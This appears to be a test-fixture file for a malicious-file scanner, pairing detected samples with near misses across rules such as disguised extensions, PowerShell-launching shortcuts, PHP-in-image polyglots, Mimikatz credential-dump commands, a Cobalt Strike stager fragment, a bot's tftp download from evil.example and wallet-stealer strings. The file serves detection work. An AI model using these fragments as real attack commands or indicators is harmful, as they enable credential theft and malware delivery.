import type { RuleSample } from "./rule-samples.ts";
import { programStub, text, wide } from "./sample-text.ts";

const png = Buffer.from("89504e470d0a1a0a0000000d49484452", "hex");
const shortcutHeader = Buffer.concat([
  Buffer.from("4c0000000114020000000000c000000000000046", "hex"),
  Buffer.alloc(56),
]);
const zipEnd = Buffer.from("PK\x01\x02........PK\x05\x06........", "latin1");
const zipMember = (name: string) =>
  Buffer.from(`PK\x03\x04${"\x01".repeat(22)}\x08${name}`, "latin1");
const elf = Buffer.from("7f454c4602010100", "hex");
const mach = Buffer.from("cffaedfe07000001", "hex");

const withName = (fileName: string) => text("hello", fileName);

function diskImage(...inside: Buffer[]): Buffer {
  const start = Buffer.alloc(34_816);
  start.write("CD001", 32_769);
  return Buffer.concat([start, ...inside]);
}

const permission = (...names: string[]) =>
  Buffer.concat([
    Buffer.from("03000800", "hex"),
    ...names.map((name) => Buffer.from(`android.permission.${name}\0`, "utf16le")),
  ]);

export const fileSamples: Readonly<Record<string, RuleSample>> = {
  double_extension: {
    found: ["invoice.pdf.exe", "photo.jpg      .scr", "CV.DOCX.JS", "a.txt.lnk"].map(withName),
    nearMiss: [
      "invoice.pdf",
      "setup.exe",
      "archive.tar.gz",
      "jquery.min.js",
      "report.2026.docx",
    ].map(withName),
  },
  reversed_name: {
    found: ["invoice\u202efdp.exe", "a\u2067b.txt"].map(withName),
    nearMiss: ["rechnung-größe.pdf", "تقرير.pdf", "“quoted”.txt"].map(withName),
  },
  shortcut_runs_command: {
    found: [
      {
        bytes: Buffer.concat([shortcutHeader, wide("power·shell.exe -w hidden -e·nc AAAA").bytes]),
      },
      {
        bytes: Buffer.concat([
          shortcutHeader,
          wide("C:\\Windows\\System32\\c·md.exe /c start a.js").bytes,
        ]),
      },
    ],
    nearMiss: [
      {
        bytes: Buffer.concat([shortcutHeader, wide("C:\\Program Files\\Editor\\editor.exe").bytes]),
      },
      text("A shortcut with powershell.exe -enc is dangerous"),
    ],
  },
  internet_shortcut_to_share: {
    found: [
      text("[Internet·Shortcut]\r\nURL=file://evil.example/share/a.exe\r\n"),
      text("[Internet·Shortcut]\r\nURL=https://x.example/\r\nIconFile=\\\\evil.example\\a.ico\r\n"),
    ],
    nearMiss: [text("[InternetShortcut]\r\nURL=https://good.example/\r\nIconFile=C:\\a.ico\r\n")],
  },
  setting_content: {
    found: [
      text("<PCSettings><Deep·Link>c·md.exe /c calc</De·epLink></PCSettings>"),
      text(
        "<library·Description xmlns='x'><simpleLocation><url>\\\\evil.example\\s</url></simpleLocation>",
      ),
    ],
    nearMiss: [
      text("<PCSettings><De·epLink>ms-settings:display</De·epLink></PCSettings>"),
      text(
        "<li·braryDescription xmlns='x'><simpleLocation><url>knownfolder:{F42EE2D3}</url></simpleLocation>",
      ),
    ],
  },
  picture_holds_php: {
    found: [
      { bytes: Buffer.concat([png, text("<?p·hp echo 'hello world'; ?>").bytes]) },
      { bytes: Buffer.concat([png, text("<?=ev·al($x)?>").bytes]) },
    ],
    nearMiss: [
      { bytes: Buffer.concat([png, Buffer.from('<?xpacket begin="" id="W5M0"?><x:xmpmeta/>')]) },
      text("<?php echo 'hello world'; ?>"),
    ],
  },
  picture_holds_script: {
    found: [
      text("GIF89·a/*\x01\x02*/=1;alert(1)"),
      text("GIF89·a=1;alert(1)"),
      text("B·M/*  */=1;alert(1)"),
      {
        bytes: Buffer.concat([png, text("<scr·ipt>document.cookie = 'a=1; b=2'</·script>").bytes]),
      },
    ],
    nearMiss: [
      text("GIF89a\x01\x00\x01\x00\x00\x00\x00;"),
      { bytes: Buffer.concat([png, Buffer.from("a <script> b")]) },
    ],
  },
  picture_holds_java: {
    found: [{ bytes: Buffer.concat([png, zipMember("Evil.class"), zipEnd]) }],
    nearMiss: [
      { bytes: Buffer.concat([png, zipMember("notes.txt"), zipEnd]) },
      { bytes: Buffer.concat([zipMember("Good.class"), zipEnd]) },
    ],
  },
  picture_holds_program: {
    found: [{ bytes: Buffer.concat([png, programStub()]) }],
    nearMiss: [
      { bytes: programStub() },
      { bytes: Buffer.concat([png, Buffer.from("MZ and no more")]) },
    ],
  },
  disk_image_holds_shortcut: {
    found: [{ bytes: diskImage(Buffer.from("OPEN.LNK;1 PAYLOAD.DLL;1"), shortcutHeader) }],
    nearMiss: [
      { bytes: diskImage(Buffer.from("SETUP.EXE;1 README.TXT;1")) },
      { bytes: diskImage(Buffer.from("PHOTOS.LNK;1 A.JPG;1"), shortcutHeader) },
    ],
  },
  program_dumps_credentials: {
    found: [text("privi·lege::debug sekur·lsa::logonpasswords lsa·dump::sam")],
    nearMiss: [text("Detection rules should look for sekurlsa::logonpasswords")],
  },
  stager_cobalt_strike: {
    found: [
      text(
        "function func_get_·proc_address { } $b = [System.Con·vert]::FromBase64String('AA=='); Virtual·Alloc",
      ),
    ],
    nearMiss: [
      text("$bytes = [Convert]::FromBase64String($text); [IO.File]::WriteAllBytes($p, $bytes)"),
    ],
  },
  elf_device_bot: {
    found: [
      {
        bytes: Buffer.concat([
          elf,
          text("/bin/busy·box ECCHI\0/dev/watch·dog\0tftp -g -r a evil.example\0").bytes,
        ]),
      },
    ],
    nearMiss: [
      { bytes: Buffer.concat([elf, Buffer.from("/dev/watchdog\0watchdog timeout\0")]) },
      text("/bin/busybox ECCHI /dev/watchdog wget http://x.example/abcd"),
    ],
  },
  android_banking_trojan: {
    found: [
      {
        bytes: permission(
          ...["BIND_ACCESSIBILITY_SERVICE", "BIND_DEVICE_ADMIN"],
          ...["RECEIVE_SMS", "SEND_SMS", "SYSTEM_ALERT_WINDOW"],
        ),
      },
    ],
    nearMiss: [{ bytes: permission("RECEIVE_SMS", "SEND_SMS", "INTERNET") }],
  },
  macho_steals_wallets: {
    found: [
      {
        bytes: Buffer.concat([
          mach,
          text(
            "Library/Application Support/Google/Ch·rome\0login.key·chain-db\0osa·script\0Exo·dus\0Elec·trum\0",
          ).bytes,
        ]),
      },
    ],
    nearMiss: [
      {
        bytes: Buffer.concat([
          mach,
          Buffer.from("Library/Application Support/Google/Chrome\0osascript\0"),
        ]),
      },
    ],
  },
};
